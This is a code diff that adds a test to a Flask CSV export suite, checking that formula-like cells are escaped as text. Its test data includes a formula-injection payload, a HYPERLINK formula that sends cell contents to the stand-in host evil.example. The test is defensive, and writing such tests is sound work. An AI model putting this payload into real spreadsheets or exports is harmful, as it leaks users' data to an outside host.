@@ -18,6 +18,18 @@ def test_csv_rows_are_read_inside_the_request_context():
     assert answer.get_data(as_text=True).splitlines() == ["\ufeffapp", "stream", "stream", "stream"]
 
 
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
+    app = Flask("inert")
+    rows = [["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", -5, "@SUM(A1)", "+1", "-2", "Plain - text"]]
+
+    @app.route("/export.csv")
+    def export():
+        return csv_response(["a", "b", "c", "d", "e", "f"], rows, "export.csv")
+
+    line = app.test_client().get("/export.csv").get_data(as_text=True).splitlines()[1]
+    assert line == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-5,\'@SUM(A1),\'+1,\'-2,Plain - text'
+
+
 def _export_app(tmp_path, seconds):
     from app.opendata import OpenData
     app = Flask("cached", instance_path=str(tmp_path))
